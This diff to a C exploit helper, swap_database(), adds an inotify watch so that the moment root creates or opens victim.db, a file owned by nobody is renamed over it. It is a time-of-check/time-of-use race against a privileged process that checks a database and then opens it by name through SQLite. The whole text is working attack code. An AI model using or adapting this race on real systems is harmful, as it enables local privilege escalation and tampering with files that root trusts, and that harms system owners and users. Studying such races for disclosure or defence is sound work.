@@ -59,6 +59,11 @@ static void swap_database(const char *dir)
 {
     char tmp[4200], keep[4200], victim[4200];
     snprintf(victim, sizeof(victim), "%s/victim.db", dir);
+    /* The moment root creates or opens victim.db (its checks read the file before SQLite opens
+     * it by name), a fresh file of nobody's takes the name. */
+    int in = inotify_init();
+    inotify_add_watch(in, dir, IN_CREATE | IN_OPEN);
+    char buf[4096] __attribute__((aligned(__alignof__(struct inotify_event))));
     for (unsigned k = 0;; k++) {
         snprintf(tmp, sizeof(tmp), "%s/n-%u", dir, k % 4096);
         snprintf(keep, sizeof(keep), "%s/keep-%u", dir, k % 4096);
@@ -69,6 +74,14 @@ static void swap_database(const char *dir)
         close(fd);
         if (k < 4096)
             link(tmp, keep);
+        for (int hit = 0; !hit;) {
+            ssize_t n = read(in, buf, sizeof(buf));
+            for (char *p = buf; n > 0 && p < buf + n;) {
+                struct inotify_event *ev = (struct inotify_event *)p;
+                hit |= ev->len && strcmp(ev->name, "victim.db") == 0;
+                p += sizeof(*ev) + ev->len;
+            }
+        }
         rename(tmp, victim);
     }
 }
